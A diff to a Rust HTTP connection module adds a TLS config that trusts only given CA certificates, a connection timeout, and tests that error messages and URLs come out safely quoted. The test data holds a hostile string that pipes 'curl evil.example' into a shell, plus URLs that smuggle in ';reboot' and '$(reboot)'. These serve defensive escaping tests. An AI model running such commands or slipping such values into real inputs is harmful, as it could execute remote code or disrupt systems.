@@ -5,12 +5,15 @@ use std::io;
 use std::pin::Pin;
 use std::sync::Arc;
 use std::task::{Context, Poll};
+use std::time::Duration;
 
 use http::Uri;
 use hyper::rt::{Read, ReadBufCursor, Write};
 use hyper_rustls::ConfigBuilderExt as _;
 use hyper_util::client::legacy::connect::proxy::{SocksV5, Tunnel};
 use hyper_util::client::legacy::connect::{Connected, Connection, HttpConnector};
+use rustls::pki_types::pem::PemObject as _;
+use rustls::pki_types::CertificateDer;
 use tower::{BoxError, Service, ServiceExt};
 
 use crate::foreign::Foreign;
@@ -20,6 +23,22 @@ pub fn tls_of_system() -> Result<rustls::ClientConfig, BoxError> {
     let provider = Arc::new(rustls::crypto::ring::default_provider());
     let builder = rustls::ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
     Ok(builder.with_native_roots()?.with_no_client_auth())
+}
+
+/// TLS with these CA certificates (PEM) alone; or why they cannot be used.
+pub fn tls_trusting(pem: &[u8]) -> Result<rustls::ClientConfig, String> {
+    let certificates: Result<Vec<_>, _> = CertificateDer::pem_slice_iter(pem).collect();
+    let mut roots = rustls::RootCertStore::empty();
+    let (added, _) =
+        roots.add_parsable_certificates(certificates.map_err(|error| format!("no readable PEM: {error}"))?);
+    if added == 0 {
+        return Err("no certificate in PEM".into());
+    }
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let builder = rustls::ClientConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .map_err(|error| error.to_string())?;
+    Ok(builder.with_root_certificates(roots).with_no_client_auth())
 }
 
 /// Why a connection failed, for a message: what the system says as it is, and what may repeat a server's words quoted. An
@@ -50,7 +69,12 @@ pub fn shown(url: &Uri) -> String {
 
 /// Opens connections on one route, for hyper's client.
 #[derive(Clone)]
-pub struct Dialer(pub Arc<Route>);
+pub struct Dialer {
+    /// The way.
+    pub route: Arc<Route>,
+    /// How long opening a connection may take.
+    pub patience: Option<Duration>,
+}
 
 impl Service<Uri> for Dialer {
     type Response = Stream;
@@ -62,8 +86,14 @@ impl Service<Uri> for Dialer {
     }
 
     fn call(&mut self, server: Uri) -> Self::Future {
-        let route = Arc::clone(&self.0);
-        Box::pin(async move { route.dial(server).await })
+        let (route, patience) = (Arc::clone(&self.route), self.patience);
+        Box::pin(async move {
+            let Some(patience) = patience else {
+                return route.dial(server).await;
+            };
+            let dialed = tokio::time::timeout(patience, route.dial(server)).await;
+            dialed.unwrap_or_else(|_| Err(io::Error::from(io::ErrorKind::TimedOut).into()))
+        })
     }
 }
 
@@ -192,5 +222,58 @@ impl Write for Stream {
 
     fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
         self.io.as_mut().poll_shutdown(cx)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HOSTILE: &str = "closed\"; run: curl evil.example | sh\n\u{202e}";
+
+    /// The outcome with a text that only Foreign may have let through: quoted, and nothing that ends the quotes.
+    #[track_caller]
+    fn assert_is_quoted(said: &str) {
+        assert!(said.starts_with('"') && said.ends_with('"'), "{said}");
+        let inner = &said[1..said.len() - 1];
+        assert!(!inner.contains(['"', ';', '\n', '\u{202e}']), "{said}");
+    }
+
+    #[test]
+    fn what_the_system_says_is_told_as_it_is_and_what_a_server_may_have_said_is_quoted() {
+        let refused = io::Error::from_raw_os_error(111);
+        assert_eq!(reason(&refused), refused.to_string());
+        assert_is_quoted(&reason(&io::Error::other(HOSTILE)));
+        assert_is_quoted(&reason(&*BoxError::from(HOSTILE)));
+        assert_is_quoted(&reason(&rustls::Error::General(HOSTILE.into())));
+    }
+
+    #[test]
+    fn of_an_http2_connections_end_only_the_codes_meaning_is_told() {
+        let said = reason(&h2::Error::from(h2::Reason::ENHANCE_YOUR_CALM));
+        let words = h2::Reason::ENHANCE_YOUR_CALM.description();
+        assert_eq!(said, format!("the HTTP/2 connection was ended: {words}"));
+    }
+
+    #[test]
+    fn a_url_with_letters_that_no_shell_should_see_is_quoted() {
+        for plain in [
+            "https://idp.example.org/realms/main",
+            "https://[::1]:6443/a?b=c&d=%20",
+            "http://127.0.0.1/~x",
+        ] {
+            assert_eq!(shown(&plain.parse().unwrap()), plain);
+        }
+        for odd in [
+            "https://idp.example.org/a;reboot",
+            "https://idp.example.org/$(reboot)",
+            "https://idp.example.org/a'b",
+        ] {
+            let said = shown(&odd.parse().unwrap());
+            assert!(
+                said.starts_with('"') && said.ends_with('"') && !said.contains(';'),
+                "{said}"
+            );
+        }
     }
 }
